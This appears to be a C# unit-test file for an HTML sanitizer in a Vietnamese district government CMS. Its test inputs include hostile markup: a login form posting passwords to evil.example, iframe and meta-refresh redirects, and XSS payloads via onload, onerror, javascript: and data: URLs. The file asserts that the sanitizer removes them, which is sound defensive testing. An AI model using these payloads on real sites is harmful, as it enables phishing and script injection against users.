using GiaVien.Cms.Content.Items;

namespace GiaVien.Cms.Tests;

/// <summary>The body's allow-list: what an article may hold, and the hostile markup that never survives.</summary>
public sealed class BodySanitizerAllowListTests
{
    private readonly BodySanitizer _sanitizer = new();

    [Theory]
    [InlineData("<form action=\"https://evil.example/login\" method=\"post\"><input name=\"password\" type=\"password\"><button>Đăng nhập</button></form>", new[] { "<form", "<input", "<button" })]
    [InlineData("<select><option>1</option></select><textarea>x</textarea><label>Nhãn</label><fieldset><legend>a</legend></fieldset>", new[] { "<select", "<option", "<textarea", "<label", "<fieldset", "<legend" })]
    [InlineData("<iframe src=\"https://evil.example\"></iframe><object data=\"x\"></object><embed src=\"x\"><frame><base href=\"https://evil.example/\">", new[] { "<iframe", "<object", "<embed", "<frame", "<base" })]
    [InlineData("<svg onload=\"alert(1)\"><circle></circle></svg><math><mi>x</mi></math><style>body{display:none}</style><link rel=\"stylesheet\" href=\"x\">", new[] { "<svg", "<circle", "<math", "<style", "<link", "display:none" })]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><p id=\"tu-khoa\" name=\"body\" style=\"position:fixed\">Gia Viễn</p>", new[] { "<meta", "id=", "name=", "style=" })]
    [InlineData("<a href=\"javascript:alert(1)\">x</a><img src=\"x\" onerror=\"alert(1)\"><a href=\"data:text/html,<script>alert(1)</script>\">y</a>", new[] { "javascript:", "onerror", "data:" })]
    public void Active_and_imitating_markup_is_removed(string html, string[] forbidden)
    {
        var clean = _sanitizer.Sanitize(html);
        Assert.All(forbidden, f => Assert.DoesNotContain(f, clean, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void Links_to_other_sites_cannot_reach_back_into_the_page()
    {
        var clean = _sanitizer.Sanitize(
            "<p><a href=\"https://ninhbinh.gov.vn/\" target=\"_blank\">Tỉnh</a> <a href=\"//example.org/x\" rel=\"nofollow\">Khác</a> "
            + "<a href=\"/tin-tuc/bai-khac\" target=\"_top\">Bài khác</a> <a href=\"mailto:vanphong@giavien.gov.vn\">Thư</a></p>");

        Assert.Contains("<a href=\"https://ninhbinh.gov.vn/\" target=\"_blank\" rel=\"noopener noreferrer\">Tỉnh</a>", clean);
        Assert.Contains("<a href=\"//example.org/x\" rel=\"nofollow noopener noreferrer\">Khác</a>", clean);
        Assert.Contains("<a href=\"/tin-tuc/bai-khac\">Bài khác</a>", clean);
        Assert.Contains("<a href=\"mailto:vanphong@giavien.gov.vn\">Thư</a>", clean);
    }

    [Fact]
    public void What_articles_are_made_of_is_kept()
    {
        const string html = "<h2>Tiêu đề</h2><p><strong>Đậm</strong> <em>nghiêng</em> <a href=\"/trang/gioi-thieu\" title=\"Giới thiệu\">liên kết</a></p>"
            + "<ul><li>Một</li></ul><ol start=\"3\"><li>Ba</li></ol><blockquote>Trích</blockquote>"
            + "<table><caption>Bảng</caption><thead><tr><th scope=\"col\">Xã</th></tr></thead><tbody><tr><td colspan=\"2\">Gia Hòa</td></tr></tbody></table>"
            + "<figure class=\"attachment\"><img src=\"/media/_p/article/a.jpg\" alt=\"Ảnh\" width=\"960\" height=\"640\" loading=\"lazy\"><figcaption>Chú thích</figcaption></figure>";
        Assert.Equal(html, _sanitizer.Sanitize(html));
    }
}
